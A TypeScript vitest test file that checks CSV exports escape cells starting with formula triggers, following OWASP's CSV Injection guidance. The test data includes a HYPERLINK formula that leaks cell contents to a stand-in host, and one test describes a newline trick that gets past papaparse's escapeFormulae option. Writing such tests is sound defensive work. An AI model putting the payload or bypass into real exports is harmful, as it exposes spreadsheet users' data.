// Formula escaping in CSV exports, checked against OWASP's "CSV Injection" page (owasp.org/www-community/
// attacks/CSV_Injection): a cell beginning with = + - @ tab (0x09) or carriage return (0x0D) is prefixed with
// a single quote so a spreadsheet shows it as text. The file is read back with papaparse's parser (RFC 4180).
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/csv';

const roundTrip = (cells: (string | number)[]) => {
  const parsed = Papa.parse<string[]>(toCsv(['a'], cells.map((c) => [c])), { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.slice(1).map((row) => row[0]);
};

describe('toCsv formula escaping (OWASP, CSV Injection)', () => {
  const STARTS = ['=', '+', '-', '@', '\t', '\r'];

  it('escapes a cell starting with any of = + - @ TAB CR, on one line', () => {
    const cells = STARTS.map((c) => `${c}SUM(A1:A2)`);
    expect(roundTrip(cells)).toEqual(cells.map((c) => `'${c}`));
  });

  it('escapes it when a newline follows, which papaparse’s own single-line pattern lets through', () => {
    const cells = STARTS.map((c) => `${c}HYPERLINK("http://example.test/?leak="&A1)\nsecond line`);
    expect(roundTrip(cells)).toEqual(cells.map((c) => `'${c}`));
    // The bypass the finding describes: the library's `escapeFormulae: true` leaves this cell as it is.
    const unescaped = Papa.unparse({ fields: ['a'], data: [[cells[0]]] }, { escapeFormulae: true });
    expect(Papa.parse<string[]>(unescaped, { delimiter: ',' }).data[1][0]).toBe(cells[0]);
  });

  it('escapes a payload that is only a line break after the trigger, and CRLF inside a cell', () => {
    expect(roundTrip(['=\n', '@\r\ncmd'])).toEqual(["'=\n", "'@\r\ncmd"]);
  });

  it('leaves text that only contains a trigger later, and numbers (a negative number is a number, not a formula)', () => {
    expect(roundTrip(['Seed, 2 bags\n=not first', 'a-b', -3.5])).toEqual(['Seed, 2 bags\n=not first', 'a-b', '-3.5']);
  });
});
